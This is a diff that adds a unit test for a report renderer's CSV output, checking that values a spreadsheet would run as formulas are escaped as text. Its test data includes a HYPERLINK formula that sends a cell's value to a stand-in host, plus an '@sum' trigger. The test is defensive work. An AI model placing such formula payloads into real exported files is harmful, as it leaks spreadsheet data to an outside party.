@@ -236,3 +236,14 @@ def test_csv_writes_true_and_false_as_json_does():
            "rolling": True, "threshold_reached": False}
     lines = render([row], "budgets", "csv").splitlines()
     assert lines[1].split(",")[-2:] == ["true", "false"]
+
+
+def test_csv_writes_a_label_a_spreadsheet_would_run_as_a_formula_as_text():
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    answer = {"report": "spend", "by": "user", "since": "S", "until": "U",
+              "rows": [{"user": evil, "requests": 1, "cost_usd": -0.5},
+                       {"user": "@sum", "requests": 1, "cost_usd": 0.5}],
+              "total": {"requests": 2, "cost_usd": 0}}
+    [_, first, second] = list(csv.reader(io.StringIO(render(answer, "spend", "csv"))))
+    assert first[:3] == [f"'{evil}", "1", "-0.5"]  # (a negative number stays a number)
+    assert second[0] == "'@sum"
